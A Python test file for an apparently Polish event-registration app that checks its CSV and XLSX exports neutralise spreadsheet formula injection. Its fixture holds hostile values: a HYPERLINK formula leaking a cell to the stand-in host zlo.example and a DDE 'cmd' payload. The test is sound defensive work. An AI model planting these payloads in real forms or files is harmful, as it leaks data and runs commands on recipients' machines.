"""What a visitor types into the registration form leaves the organisers' CSV and XLSX
exports as text: a spreadsheet never runs it as a formula."""

import csv
import io

import openpyxl
import pytest

pytestmark = pytest.mark.django_db

TYPED = {
    "name": '=HYPERLINK("https://zlo.example/?d="&C2;"Kliknij")',
    "institution": "+48 cmd|' /C calc'!A0",
    "position": "@SUMA(1;1)",
    "needs_other": "-1+1",
}


@pytest.fixture
def booked(client, meeting):
    """A registration made through the public form, with formulas in four fields."""
    response = client.post(
        meeting.url + "zapis/",
        {
            **TYPED,
            "email": "anna@example.org",
            "institution_type": "wtz",
            "people": "1",
            "consent": "on",
        },
    )
    assert response.status_code == 302
    client.logout()


def download(client, export_format):
    response = client.get(f"/admin/registrations/?export={export_format}")
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_csv_export_of_registrations_carries_no_formula(client, organiser, booked):
    client.force_login(organiser)

    (row,) = csv.DictReader(io.StringIO(download(client, "csv").decode()))

    assert row["Imię i nazwisko"] == "'" + TYPED["name"]
    assert row["Instytucja"] == "'" + TYPED["institution"]
    assert row["Stanowisko"] == "'" + TYPED["position"]
    assert row["Inne potrzeby"] == "'" + TYPED["needs_other"]
    assert row["E-mail"] == "anna@example.org"  # ordinary text is left as it is


def test_xlsx_export_of_registrations_carries_no_formula(client, organiser, booked):
    client.force_login(organiser)

    sheet = openpyxl.load_workbook(io.BytesIO(download(client, "xlsx"))).active
    headings, row = (list(cells) for cells in sheet.iter_rows(values_only=True))
    cells = dict(zip(headings, row, strict=True))

    assert cells["Imię i nazwisko"] == "'" + TYPED["name"]
    assert cells["Instytucja"] == "'" + TYPED["institution"]
    assert cells["Stanowisko"] == "'" + TYPED["position"]
    assert cells["Inne potrzeby"] == "'" + TYPED["needs_other"]
    assert cells["E-mail"] == "anna@example.org"
